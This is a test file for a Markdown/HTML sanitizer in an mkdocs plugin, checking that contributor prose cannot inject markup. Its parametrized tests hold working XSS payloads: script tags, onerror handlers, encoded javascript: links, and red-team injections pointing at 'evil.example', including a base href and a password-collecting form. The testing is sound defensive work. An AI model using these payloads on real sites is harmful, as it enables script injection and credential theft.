"""Contributor prose cannot inject HTML or script links; math and code keep their `<`."""

from __future__ import annotations

import markdown
import pytest

from mkdocs_derivations.sanitize import BLOCKED, mark_prose, sanitize_html, sanitize_markdown

EXTENSIONS = ["pymdownx.arithmatex", "md_in_html", "attr_list", "footnotes", "admonition"]


def to_html(text: str) -> str:
    return markdown.markdown(sanitize_markdown(text), extensions=EXTENSIONS,
                             extension_configs={"pymdownx.arithmatex": {"generic": True}})


@pytest.mark.parametrize("attack", [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe src='https://example.org'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<!-- hidden --><b>x</b>",
])
def test_raw_html_in_prose_is_shown_as_text(attack: str) -> None:
    html = to_html(f"Before {attack} after.")
    assert "<script" not in html and "<img" not in html and "<iframe" not in html and "<svg" not in html
    assert "<a href" not in html and "<!--" not in html and "<b>" not in html


@pytest.mark.parametrize("link", [
    "[x](javascript:alert(1))", "[x]( JavaScript:alert(1))", "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox)", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x][r]\n\n[r]: javascript:alert(1)",
])
def test_script_links_are_neutralised(link: str) -> None:
    html = to_html(link)
    lowered = html.lower()
    for scheme in ("javascript:", "vbscript:", "data:"):
        assert scheme not in lowered, html
    assert f'href="{BLOCKED}' in html, html


def test_math_and_code_keep_their_angle_brackets() -> None:
    html = to_html("If $a<b$ and `x<y` then $$c<d$$ holds.")
    assert r"\(a&lt;b\)" in html and "<code>x&lt;y</code>" in html and "c&lt;d" in html


@pytest.mark.parametrize("text", ["`<b>x</b>``", "``<b>x</b>`", "```<b>x</b>``"])
def test_backtick_runs_of_different_lengths_protect_nothing(text: str) -> None:
    """Markdown closes a code span only with a run of as many backticks; an earlier sanitizer also took a
    shorter run as the closer and left the HTML between them raw."""
    assert "<b>" not in to_html(f"Before {text} after.")


def test_code_spans_and_math_pair_as_markdown_reads_them() -> None:
    html = to_html("`` a ` b `` then ``` x``y ``` and \\( p<q \\) but \\( r<s")
    assert "<code>a ` b</code>" in html and "<code>x``y</code>" in html
    assert "p&lt;q" in html and "r&lt;s" in html


@pytest.mark.parametrize("unit", ["`", "``` `", "\\( ", "\\[ ", "$$ ", "$a\\$ "])
def test_thousands_of_unclosed_openers_take_linear_time(unit: str) -> None:
    """30 KB of backticks once took minutes (a backtracking regex), and rendering runs in the host."""
    import time

    text = unit * (60_000 // len(unit))
    started = time.perf_counter()
    sanitize_markdown(text)
    assert time.perf_counter() - started < 2.0  # ~0.06 s; the old pattern needed minutes


def test_ordinary_links_and_references_survive() -> None:
    html = to_html("See [(3)](#eq-chain-rule) and [docs](https://example.org).")
    assert 'href="#eq-chain-rule"' in html and 'href="https://example.org"' in html


def test_html_layer_defuses_what_slipped_through() -> None:
    html = '<p><img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a><script>x()</script></p>'
    clean = sanitize_html(html)
    assert "onerror=" not in clean.replace("data-blocked-onerror=", "")
    assert 'href="javascript:' not in clean and "<script" not in clean


@pytest.mark.parametrize("url", [
    "javascript:alert(1)", "java&#115;cript:alert(1)", " JavaScript:alert(1)", "\tjava\nscript:x",
    "&#106;avascript:x", "data:text/html,x", "vbscript:x",
])
def test_html_layer_blocks_encoded_script_urls(url: str) -> None:
    clean = sanitize_html(f'<a href="{url}">x</a><img src=\'{url}\'>')
    assert clean.count(BLOCKED) == 2
    assert "script:" not in clean.lower().replace("script&#58;", "")


def test_html_layer_keeps_safe_urls_and_defangs_the_word() -> None:
    clean = sanitize_html('<a href="#eq-1">a</a><a href="../x/">b</a><a href="https://e.org">c</a>'
                          "<p>never write javascript: links</p>")
    assert 'href="#eq-1"' in clean and 'href="../x/"' in clean and 'href="https://e.org"' in clean
    assert "javascript&#58; links" in clean


SITE_EXTENSIONS = ["admonition", "footnotes", "attr_list", "md_in_html", "pymdownx.details", "pymdownx.superfences",
                   "pymdownx.arithmatex", "toc"]


def site_html(text: str) -> str:
    """Prose as a generated page gets it: sanitised, marked, converted with the site's extensions, and
    through the HTML layer."""
    page = mark_prose(sanitize_markdown(text), "0123456789abcdef")
    converted = markdown.markdown(page, extensions=SITE_EXTENSIONS,
                                  extension_configs={"pymdownx.arithmatex": {"generic": True}})
    return sanitize_html(converted)


@pytest.mark.parametrize("attack", [
    'Note \\` <base href="http://127.0.0.1:8765/"> ` end.',  # an escaped backtick opens no code span
    'M3 \\\\( <form action="https://evil.example/"><input name="password"></form> \\\\) end.',  # nor \\(
    'M4 $x <meta http-equiv="refresh" content="0;url=https://evil.example/"> $ end.',  # nor "$x ... $"
    "a $$ <link rel=stylesheet href=https://evil.example/x.css> $$ b",  # $$ inside a paragraph is no block
    "x `a\n\n<base href=//evil.example/>\n\nb` y",  # a code span ends with its paragraph
])
def test_what_the_markdown_parser_reads_differently_is_escaped(attack: str) -> None:
    """Red team: each of these reached the page as raw HTML, <base href> making every script of the page
    load from the attacker's host."""
    html = site_html(attack)
    for tag in ("<base", "<form", "<input", "<meta", "<link"):
        assert tag not in html, html


@pytest.mark.parametrize("attack", [
    'A refuted step {: style="position:fixed;inset:0" .deriv-verdict .deriv-proved }',
    "*e*{: .deriv-proved #deriv-errors }",
    '# Title {: style="color:red" }',
    '!!! success "✓ proved"\n    looks like a badge',
    '??? deriv-verdict "✓ proved"\n    the badge\'s own markup',
    '- !!! note "in a list"\n      text',
    '=== "Tab"\n    text',
])
def test_attribute_lists_and_boxes_of_the_authors_choosing_are_text(attack: str) -> None:
    html = site_html(attack)
    assert renderer_only_markup(html) == [], html


def renderer_only_markup(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The elements of ``html`` that only the renderer may write: a style, a class or id of the plugin's or
    of an admonition, a details box (or, from the fuzz's pieces, a <b> or <base> of the author's)."""
    from html.parser import HTMLParser

    found: list[tuple[str, list[tuple[str, str | None]]]] = []

    class Finder(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            values = dict(attrs)
            classes = (values.get("class") or "").split()
            if (tag in ("base", "details", "b") or values.get("style")
                    or any(c.startswith("deriv-") and c not in ("deriv-ref", "deriv-ref-page") for c in classes)
                    or "admonition" in classes or (values.get("id") or "").startswith(("eq-", "deriv-"))):
                found.append((tag, attrs))

    Finder().feed(html)
    return found


def test_the_renderers_reference_links_keep_their_class() -> None:
    html = site_html("See [(3)](#eq-x){.deriv-ref} and [(4)](other.md#eq-y){.deriv-ref .deriv-ref-page}.")
    assert '<a class="deriv-ref" href="#eq-x">(3)</a>' in html
    assert 'class="deriv-ref deriv-ref-page"' in html


def test_inline_math_is_escaped_as_mathjax_reads_it_and_blocks_and_code_are_not() -> None:
    """Inline math is not exempt: arithmatex passes `&lt;` and `&#123;` on, and the browser gives MathJax
    `<` and `{`. Math blocks and code are shown as written, so they are left alone."""
    html = site_html("If $a<b$ and $\\frac{1}{2}$ and `x<y{z}` then\n\n$$\n\\frac{a}{b} < c\n$$\n\n"
                     "```\n<b>{x}</b>\n```")
    assert r"\(a&lt;b\)" in html and r"\(\frac&#123;1}&#123;2}\)" in html
    assert "<code>x&lt;y{z}</code>" in html
    assert r"\frac{a}{b} &lt; c" in html
    assert "&lt;b&gt;{x}&lt;/b&gt;" in html


@pytest.mark.parametrize(("element", "left"), [
    ('<base href="https://evil.example/">', "&lt;base"),
    ('<form action="x"><input name="p"></form>', "&lt;form"),
    ('<meta http-equiv="refresh" content="0">', "&lt;meta"),
    ('<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', "&lt;animate"),
    ("<style>body{display:none}</style>", "&lt;style&gt;body{display:none}&lt;/style&gt;"),
    ("<script>if (a<b) x()</script>", "&lt;script&gt;if (a&lt;b) x()&lt;/script&gt;"),
    ('<p style="position:fixed;inset:0">x</p>', "<p>x</p>"),
    ('<a href="#a" onclick="x()" target="_blank">y</a>', '<a href="#a">y</a>'),
])
def test_html_layer_keeps_only_an_allow_list(element: str, left: str) -> None:
    assert left in sanitize_html(element), sanitize_html(element)


def test_html_layer_keeps_the_sites_own_markup_as_written() -> None:
    own = ('<div class="deriv-eq deriv-proved" id="eq-a" data-eq-number="1"><details class="deriv-verdict">'
           '<summary aria-label="x">✓</summary></details></div><table><tr><td style="text-align: right;">1</td>'
           '</tr></table><svg class="g" viewBox="0 0 10 10" style="min-width: 40px"><marker id="m" refX="1"/>'
           "</svg><!-- kept -->")
    assert sanitize_html(own) == own


def test_in_prose_nothing_only_the_renderer_may_write_survives() -> None:
    """A mismatch that let raw markup through must not make a badge, a box or an equation's anchor."""
    prose = ('<p class="deriv-proved admonition note x">a</p><details class="deriv-verdict"><summary>✓ proved'
             '</summary></details><h2 id="deriv-errors">e</h2><h3 id="eq-main">f</h3></div></div><span class='
             '"arithmatex">\\(x\\)</span>')
    html = sanitize_html(mark_prose(prose, "fedcba9876543210"))
    assert '<p class="note x">a</p>' in html and "<details" not in html and "<summary" not in html
    assert 'id="deriv-errors"' not in html and 'id="eq-main"' not in html
    assert "</div>" not in html and '<span class="arithmatex">' in html and "prose -->" not in html
    outside = sanitize_html('<details class="deriv-verdict"><summary>✓</summary></details></div>')
    assert outside.startswith('<details class="deriv-verdict">') and outside.endswith("</div>")


def test_a_script_url_split_by_a_line_break_is_defused_in_text() -> None:
    """The browser drops tabs and line breaks inside a URL: MathJax read `java<newline>script:` as no scheme."""
    clean = sanitize_html("<span class=\"arithmatex\">\\(\\href{java\nscript:alert(1)}{x} \\href{vb&#10;script:y}"
                          "{z}\\)</span>")
    assert "script:" not in clean.replace("script&#58;", ""), clean


def test_differential_fuzz_finds_no_markup_of_the_authors_choosing() -> None:
    """Random prose from the pieces the red team used, through the site's own Markdown: no element of a kind
    or with a class or id that only the renderer may write comes out (3 000 cases, seeded)."""
    import random

    pieces = ["`", "``", "```", "\\", "\\\\", "$", "$$", "\\(", "\\)", "\\[", "\\]", " ", "a", "\n", "\n\n",
              '<b class="deriv-proved">', "<base href=x>", "{: .deriv-proved}", "{.deriv-verdict}", "*e*",
              '!!! success "T"\n', "??? deriv-verdict\n", "    ", "- ", "# ", "> ", "\\begin{x}", "\\end{x}",
              '=== "T"\n', "[x](#a)", "~~~", "1. ", "{: #eq-x}", "# eq x\n"]

    rng = random.Random(20261128)
    for _ in range(3000):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(1, 14)))
        assert renderer_only_markup(site_html(text)) == [], text
